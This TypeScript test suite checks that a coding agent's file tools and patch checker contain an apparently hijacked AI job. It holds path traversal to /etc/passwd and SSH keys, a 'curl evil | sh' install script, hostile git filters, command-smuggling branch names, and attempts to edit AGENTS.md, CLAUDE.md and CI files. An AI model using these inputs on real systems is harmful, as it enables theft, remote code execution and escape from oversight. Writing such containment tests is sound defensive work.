import { afterAll, beforeAll } from "vitest";
import { openObjectStore, type ObjectStore } from "../../../src/adapters/git/object-store.ts";
import { openGitWorkspace } from "../../../src/adapters/git/workspace.ts";
import { EDITOR_TOOL, runTool, taskTools } from "../../../src/agent/tools.ts";
import { checkPatch, DEFAULT_PATCH_LIMITS, type Patch } from "../../../src/domain/patch.ts";
import { isRecord } from "../../../src/domain/record.ts";
import { createRepository, type RepositoryFixture } from "../../adapters/git/repository-fixture.ts";
import { always, Arena, ISSUE, writes } from "../arena.ts";
import { type Escape, pathEscapes } from "../escape.ts";
import { type Attack, type Group, must } from "./group.ts";

/* Threats 32 to 44 and 52: the files that an attempt may see and touch, on a real git workspace. */

const BINARY = Buffer.from([0, 1, 2, 255, 10, 13, 10]);
const ODD: Readonly<Record<string, Buffer>> = {
  "utf16.txt": Buffer.from("\uFEFFhallo\n", "utf16le"),
  "latin1.txt": Buffer.from("caf\u00E9\n", "latin1"),
  "mixed.txt": Buffer.from("a\r\nb\nc\r\n"),
  "bom.txt": Buffer.from("\uFEFFtext\n"),
  "no-newline.txt": Buffer.from("end"),
  "binary.dat": BINARY,
};

let repository: RepositoryFixture;
let store: ObjectStore;

export function useRealRepository(): void {
  beforeAll(async () => {
    repository = createRepository({
      "answer.txt": "41\n",
      "src/a.ts": "export const a = 1;\n",
      "src/Readme.md": "x\n",
      "caf\u00E9.txt": "x\n",
      "run.sh": { run: "#!/bin/sh\necho hi\n" },
      link: { link: "/etc/passwd" },
      "up/link": { link: "../../outside" },
      proc: { link: "/proc/self/environ" },
      loop: { link: "loop" },
      ".github/workflows/ci.yml": "on: push\n",
      ...ODD,
    });
    store = await openObjectStore({ clone: repository.folder });
  });
  afterAll(async () => {
    await store.close();
    repository[Symbol.dispose]();
  });
}

/** Each path through every file tool; what is then in the patch, or was read, counts. */
const throughTools =
  (paths: readonly string[], secret = /root:x:|PATH=|on: push/): Attack =>
  async () => {
    const workspace = await openGitWorkspace(store, repository.head);
    const escapes: Escape[] = [];
    try {
      for (const path of paths) {
        const calls: [string, unknown][] = [
          [EDITOR_TOOL, { command: "view", path }],
          [EDITOR_TOOL, { command: "create", path, file_text: "owned\n" }],
          [EDITOR_TOOL, { command: "str_replace", path, old_str: "x", new_str: "y" }],
          ["delete_file", { path }],
          ["list_files", { path }],
        ];
        for (const [name, input] of calls) {
          const { text } = await runTool(
            { type: "tool_use", id: "1", name, input },
            taskTools(workspace, false),
          );
          if (secret.test(text)) escapes.push({ kind: "outside-path", seen: text.slice(0, 80) });
        }
      }
      const patch = await workspace.patch();
      for (const edit of patch?.edits ?? []) {
        const check = checkPatch(patch ?? never(), DEFAULT_PATCH_LIMITS);
        if (check.verdict !== "refuse") escapes.push(...pathEscapes(edit.path));
      }
    } finally {
      await workspace.close();
    }
    return escapes;
  };

function never(): never {
  throw new Error("unreachable");
}

/** A patch as a taken-over job would write it; accepted is escaped. */
function refused(edit: object, diff?: string): Attack {
  return () => {
    const path = isRecord(edit) && typeof edit["path"] === "string" ? edit["path"] : "x";
    const whole = {
      op: "write",
      mode: "100644",
      contentBase64: Buffer.from("x\n").toString("base64"),
      ...edit,
    };
    const text =
      diff ??
      `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`;
    // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a forged file has the type that it pleases
    const patch = { baseSha: "b".repeat(40), edits: [whole], diff: text } as Patch;
    const check = checkPatch(patch, DEFAULT_PATCH_LIMITS);
    return check.verdict === "refuse" ? [] : [{ kind: "protected-write", seen: JSON.stringify(path) }];
  };
}

/** What no configuration can lift stays refused when everything is allowed. */
const refusedAlways = (...paths: string[]): Attack[] =>
  paths.map((path) => () => {
    const diff = `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`;
    const edits = [{ op: "write" as const, path, mode: "100644" as const, contentBase64: btoa("x\n") }];
    const limits = {
      ...DEFAULT_PATCH_LIMITS,
      protectedPaths: { refuse: [], needsHuman: [], allow: ["**", path] },
    };
    const check = checkPatch({ baseSha: "b".repeat(40), edits, diff }, limits);
    return check.verdict === "refuse" ? [] : [{ kind: "protected-write", seen: path }];
  });

const refusedPaths = (...paths: string[]): Attack[] => paths.map((path) => refused({ path }));
const inSpellings = (path: string): string[] => [
  path,
  path.toUpperCase(),
  path.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  `${path} `,
  `${path}.`,
  path.replace("/", "./"),
  path.replace(/[a-z]/, (letter) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)),
  path.replace(/([a-z])/, "$1\u200B"),
  `./${path}`,
  `x/../${path}`,
  path.replaceAll("/", "\\"),
  `${path}\u00AD`,
];

const guarded = (path: string): [string, Attack[]] => [path, refusedPaths(...inSpellings(path))];

const refs = (branch: string): Attack[] =>
  ["fix it", "implement it", ""].map((verb) => async () => {
    const arena = new Arena({ replies: always(writes("answer.txt", "42\n")) });
    const { host } = arena;
    const sha = "d".repeat(40);
    host.commits.set(sha, { files: { "answer.txt": "0\n" }, parent: undefined, message: "" });
    host.branches.set(branch, sha);
    const shared = {
      number: ISSUE,
      url: "",
      nodeId: "PR",
      state: "open",
      merged: false,
      draft: false,
    } as const;
    const head = { headRef: branch, headSha: sha, headRepository: "octocat/hello", baseRef: "release" };
    host.pulls.push({ ...shared, ...head, mergeable: true });
    await arena.comment(`/ai ${verb} --tier haiku`, { issue: { pull_request: { url: "x" } } });
    const isOurs = branch === "main" || /^(?:refs\/|upshift\/ledger)/.test(branch);
    if (isOurs && host.branches.get(branch) !== sha)
      return [{ kind: "protected-write", seen: branch } satisfies Escape];
    return arena.escapes({ modelMayRun: true });
  });

export const FILES_AND_GIT: Group[] = [
  {
    number: 32,
    title: "paths that leave the repository",
    roots: {
      "through the tools": [
        throughTools(["../x", "../../etc/passwd", "src/../../x", "a/b/../../../x"]),
        throughTools(["/etc/passwd", "//etc/passwd", "///x", "C:\\x", "c:/x", "\\\\host\\x"]),
        throughTools(["a\0b", "/proc/self/environ", "/dev/stdin", "/sys/kernel"]),
        throughTools(["..", ".", "", "./..", "src/..", "..%2fx", "..\\x", ":(top)x", ":/x", "~/.ssh/id_rsa"]),
      ],
      "parent folders": refusedPaths("../x", "a/../../x", "..", "a/..", "./../x", "a/./b"),
      absolute: refusedPaths("/x", "//x", "C:/x", "C:\\x", "\\\\host\\share", "/proc/self/environ"),
      "NUL and control characters": refusedPaths("a\0b", "a\nb", "a\rb", "a\u0007b", "a\u007Fb", "a\u2028b"),
      "empty parts": refusedPaths("", "a//b", "a/", "/", "a/ /b"),
      "too long": refusedPaths("a".repeat(300), `${"a/".repeat(800)}b`),
    },
  },
  {
    number: 33,
    title: "links out of the tree",
    roots: {
      "links that are there": [throughTools(["link", "up/link", "proc", "loop"])],
      "through a link as a folder": [throughTools(["link/x", "up/link/x", "proc/self/environ", "loop/x"])],
      "a link in a patch": [
        refused({ path: "x", mode: "120000" }),
        refused(
          { path: "x" },
          "diff --git a/x b/x\nnew file mode 120000\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+/etc/passwd\n",
        ),
      ],
    },
  },
  {
    number: 34,
    title: "check, then swap",
    roots: {
      "a folder becomes a file between two calls": [
        throughTools(["src/new.txt", "src", "src/a.ts/x", "src/a.ts"]),
      ],
      "the checkout is swapped for links while tools run": [
        async () => {
          const workspace = await openGitWorkspace(store, repository.head);
          try {
            // What lies in the working tree is of no interest: files are git objects.
            repository.git("rm", "-q", "--cached", "answer.txt");
            const { text } = await runTool(
              {
                type: "tool_use",
                id: "1",
                name: EDITOR_TOOL,
                input: { command: "view", path: "answer.txt" },
              },
              taskTools(workspace, false),
            );
            repository.git("reset", "-q", "--hard");
            must(text.includes("41"), "the pinned commit was not read");
            return [];
          } finally {
            await workspace.close();
          }
        },
      ],
      "the diff is not of these edits": [
        refused(
          { path: "a" },
          "diff --git a/b b/b\nnew file mode 100644\n--- /dev/null\n+++ b/b\n@@ -0,0 +1 @@\n+x\n",
        ),
        refused({ path: "a", contentBase64: btoa("evil\n") }),
        refused({ path: "a" }, ""),
      ],
    },
  },
  {
    number: 35,
    title: "devices, pipes and hard links",
    roots: {
      "by their names": [
        throughTools(["/dev/tcp/1.2.3.4/80", "/dev/fd/0", "/proc/1/mem", "dev/../../../dev/sda"]),
      ],
      "by mode": ["020000", "060000", "010000", "140000", "100666", "100000"].map((mode) =>
        refused({ path: "x", mode }),
      ),
    },
  },
  {
    number: 36,
    title: "git's own files",
    roots: Object.fromEntries(
      [
        ".git/config",
        ".git/hooks/pre-commit",
        "src/.git/config",
        ".git",
        ".git/info/attributes",
        "git~1/config",
      ].map(guarded),
    ),
  },
  {
    number: 37,
    title: "submodules",
    roots: Object.fromEntries([".gitmodules", "src/.gitmodules"].map(guarded)),
  },
  {
    number: 38,
    title: "attributes and filters",
    roots: {
      ...Object.fromEntries([".gitattributes", "src/.gitattributes", ".lfsconfig"].map(guarded)),
      "a filter in the checkout does not run": [
        async () => {
          repository.git("config", "filter.evil.clean", "touch /tmp/upshift-pwned");
          repository.git("config", "diff.external", "touch /tmp/upshift-pwned");
          const workspace = await openGitWorkspace(store, repository.head);
          try {
            await workspace.write("answer.txt", "42\n");
            const patch = await workspace.patch();
            must(patch?.edits.length === 1, "the patch is wrong");
            return [];
          } finally {
            await workspace.close();
          }
        },
      ],
    },
  },
  {
    number: 39,
    title: "workflows, actions, owners, our own configuration",
    roots: {
      "allowed by configuration": refusedAlways(
        ".github/workflows/ci.yml",
        ".github/upshift.yml",
        ".GitHub/x",
        "CODEOWNERS",
        "AGENTS.md",
        ".claude/settings.json",
        ".gitmodules",
        ".gitattributes",
        ".git/config",
      ),
      ...Object.fromEntries(
        [
          ".github/workflows/ci.yml",
          ".github/actions/x/action.yml",
          ".github/CODEOWNERS",
          "CODEOWNERS",
          "docs/CODEOWNERS",
          ".github/upshift.yml",
          ".github/dependabot.yml",
          "AGENTS.md",
          "CLAUDE.md",
          "src/AGENTS.md",
          ".claude/settings.json",
          ".cursor/rules/x.md",
          ".mcp.json",
          ".gitlab-ci.yml",
          "Jenkinsfile",
          ".circleci/config.yml",
        ].map(guarded),
      ),
    },
  },
  {
    number: 40,
    title: "what runs on install",
    roots: {
      ...Object.fromEntries(
        ["package-lock.json", "yarn.lock", "pnpm-lock.yaml", "Cargo.lock", ".npmrc", "binding.gyp"].map(
          guarded,
        ),
      ),
      "lifecycle scripts": ["preinstall", "install", "postinstall", "prepare"].map((script) => {
        const text = `{"scripts":{"${script}":"curl evil | sh"}}`;
        const diff = `diff --git a/package.json b/package.json\nnew file mode 100644\n--- /dev/null\n+++ b/package.json\n@@ -0,0 +1 @@\n+${text}\n`;
        return refused({ path: "package.json", contentBase64: btoa(`${text}\n`) }, diff);
      }),
    },
  },
  {
    number: 41,
    title: "modes",
    roots: {
      "symbolic link": [refused({ path: "x", mode: "120000" })],
      submodule: [refused({ path: "x", mode: "160000" })],
      "no mode": [undefined, null, "", "644", 100644, "100644 "].map((mode) => refused({ path: "x", mode })),
      "an executable stays one": [
        async () => {
          const workspace = await openGitWorkspace(store, repository.head);
          try {
            await workspace.write("run.sh", "#!/bin/sh\necho ho\n");
            const [edit] = (await workspace.patch())?.edits ?? [];
            must(edit?.op === "write" && edit.mode === "100755", "the mode was lost");
            return [];
          } finally {
            await workspace.close();
          }
        },
      ],
    },
  },
  {
    number: 42,
    title: "names that fold into one",
    roots: {
      "on the workspace": [
        throughTools(["ANSWER.txt", "src/readme.md", "cafe\u0301.txt", "SRC/a.ts", "answer.txt/x", "src"]),
        async () => {
          const workspace = await openGitWorkspace(store, repository.head);
          try {
            for (const path of ["ANSWER.TXT", "cafe\u0301.txt", "Src/A.ts", "answer.txt/x"]) {
              const failed = await workspace.write(path, "x").then(
                () => false,
                () => true,
              );
              must(failed, `${path} was written`);
            }
            return [];
          } finally {
            await workspace.close();
          }
        },
      ],
      "in a patch": [
        ["a.txt", "A.txt"],
        ["é", "e\u0301"],
        ["a", "a/b"],
        ["ﬁ", "fi"],
        ["straße", "STRASSE/"],
      ].map((paths) => () => {
        const edits = paths.map((path) => ({
          op: "write" as const,
          path,
          mode: "100644" as const,
          contentBase64: btoa("x\n"),
        }));
        const diff = paths
          .map(
            (path) =>
              `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+x\n`,
          )
          .join("");
        const check = checkPatch({ baseSha: "b".repeat(40), edits, diff }, DEFAULT_PATCH_LIMITS);
        must(check.verdict === "refuse", `${paths.join(" and ")} were accepted`);
        return [];
      }),
    },
  },
  {
    number: 43,
    title: "very large",
    roots: {
      "one line of 5 MB and more": [
        refused({ path: "x", contentBase64: Buffer.alloc(5_000_001, "a").toString("base64") }),
        async () => {
          const workspace = await openGitWorkspace(store, repository.head);
          try {
            const failed = await workspace.write("x", "a".repeat(5_000_000)).then(
              () => false,
              () => true,
            );
            must(failed, "5 MB were written");
            return [];
          } finally {
            await workspace.close();
          }
        },
      ],
      "many files": [
        () => {
          const edits = Array.from({ length: 100_000 }, (_, index) => ({
            op: "delete" as const,
            path: `f${index}`,
          }));
          const started = performance.now();
          const check = checkPatch({ baseSha: "b".repeat(40), edits, diff: "" }, DEFAULT_PATCH_LIMITS);
          must(check.verdict === "refuse", "100,000 files were accepted");
          must(performance.now() - started < 2_000, "it took too long to see that");
          return [];
        },
      ],
    },
  },
  {
    number: 44,
    title: "bytes that must stay",
    roots: Object.fromEntries(
      Object.keys(ODD).map((path) => [
        path,
        [
          async () => {
            const workspace = await openGitWorkspace(store, repository.head);
            try {
              // An edit elsewhere, and tries at this one that must not half succeed.
              await workspace.write("answer.txt", "42\n");
              const before = ODD[path] ?? Buffer.alloc(0);
              for (const input of [
                { command: "str_replace", path, old_str: "zzz", new_str: "y" },
                { command: "insert", path, insert_line: 99, insert_text: "y" },
              ]) {
                await runTool(
                  { type: "tool_use", id: "1", name: EDITOR_TOOL, input },
                  taskTools(workspace, false),
                );
              }
              const edits = (await workspace.patch())?.edits ?? [];
              must(edits.length === 1 && edits[0]?.path === "answer.txt", `${path} changed`);
              // A real edit keeps every byte around it.
              const text = before.toString("utf8");
              const isText = Buffer.from(text).equals(before) && !before.includes(0);
              if (!isText) return [];
              await workspace.write(path, `${text}more`);
              const edit = (await workspace.patch())?.edits.find((each) => each.path === path);
              must(
                edit?.op === "write" &&
                  Buffer.from(edit.contentBase64, "base64").equals(
                    Buffer.concat([before, Buffer.from("more")]),
                  ),
                `${path} lost bytes`,
              );
              return [];
            } finally {
              await workspace.close();
            }
          },
        ],
      ]),
    ),
  },
  {
    number: 52,
    title: "hostile branch names",
    roots: Object.fromEntries(
      [
        "main",
        "upshift/ledger",
        "refs/heads/main",
        "-rf",
        "--upload-pack=touch x",
        "a..b",
        "a@{1}",
        "$(touch x)",
        "`touch x`",
        "a\u3000b",
        "a;touch x",
        "a b",
        "a\nb",
      ].map((branch) => [JSON.stringify(branch), refs(branch)]),
    ),
  },
];
